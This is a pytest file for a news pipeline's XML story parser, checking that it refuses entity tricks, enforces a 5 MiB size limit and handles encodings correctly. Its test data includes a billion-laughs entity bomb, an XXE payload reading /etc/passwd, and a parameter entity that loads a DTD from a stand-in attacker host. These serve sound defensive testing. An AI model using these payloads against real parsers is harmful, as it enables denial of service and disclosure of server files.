"""XML is untrusted: no entity expansion, no external entities, a size limit."""

from __future__ import annotations

import pytest

from pipeline.formats import DEFAULT_MAX_STORY_BYTES, StoryParseError, parse_story
from pipeline.formats.safe_xml import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<nitf><body><body.content><p>x</p></body.content></body></nitf>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY],
                         ids=["billion-laughs", "xxe", "parameter-entity"])
def test_entity_tricks_are_refused(payload):
    with pytest.raises(StoryParseError) as error:
        parse_story(payload)
    assert error.value.reason == "xml-forbidden"


def test_plain_doctype_line_is_accepted():
    story = parse_story(b'<!DOCTYPE nitf SYSTEM "nitf-3-2.dtd"><nitf><body><body.content>'
                        b"<p>Text.</p></body.content></body></nitf>")
    assert story.body == "Text."


def test_html_entities_in_xml_become_characters():
    story = parse_story(b"<nitf><body><body.content><p>caf&eacute;&nbsp;au lait &amp; "
                        b"more</p></body.content></body></nitf>")
    assert story.body == "caf\xe9\xa0au lait & more"


NITF = b"<nitf><body><body.content><p>Text.</p></body.content></body></nitf>"


def test_oversized_input_is_refused_before_parsing():
    payload = b"<nitf>" + b" " * DEFAULT_MAX_STORY_BYTES + b"</nitf>"
    with pytest.raises(StoryParseError) as error:
        parse_story(payload)
    assert error.value.reason == "too-large"


def test_default_limit_is_five_mebibytes():
    assert DEFAULT_MAX_STORY_BYTES == 5 * 1024 * 1024


@pytest.mark.parametrize("payload", [NITF, b"Quake hits Chile, killing at least three people."],
                         ids=["xml", "text"])
def test_the_caller_sets_the_limit(payload):
    assert parse_story(payload, max_bytes=len(payload)).body
    with pytest.raises(StoryParseError) as error:
        parse_story(payload, max_bytes=len(payload) - 1)
    assert error.value.reason == "too-large"
    assert f"> {len(payload) - 1}" in error.value.detail


def test_a_raised_limit_admits_a_payload_over_the_default():
    padding = b" " * (DEFAULT_MAX_STORY_BYTES - len(NITF) + 1)
    payload = NITF.replace(b"<body>", b"<body>" + padding)
    assert len(payload) > DEFAULT_MAX_STORY_BYTES
    assert parse_story(payload, max_bytes=len(payload)).body == "Text."


def test_parse_xml_takes_the_limit_too():
    assert parse_xml(NITF, max_bytes=len(NITF)).tag == "nitf"
    with pytest.raises(StoryParseError) as error:
        parse_xml(NITF, max_bytes=len(NITF) - 1)
    assert error.value.reason == "too-large"


def test_declared_latin1_that_is_utf8_is_read_as_utf8():
    payload = ('<?xml version="1.0" encoding="iso-8859-1"?><nitf><body><body.content>'
               "<p>Décès à Strasbourg</p></body.content></body></nitf>").encode()
    assert parse_story(payload).body == "Décès à Strasbourg"


def test_declared_latin1_is_honoured(story_bytes):
    story = parse_story(story_bytes("nitf_pa_budget_embargoed.xml"))
    assert "£3 billion" in story.body
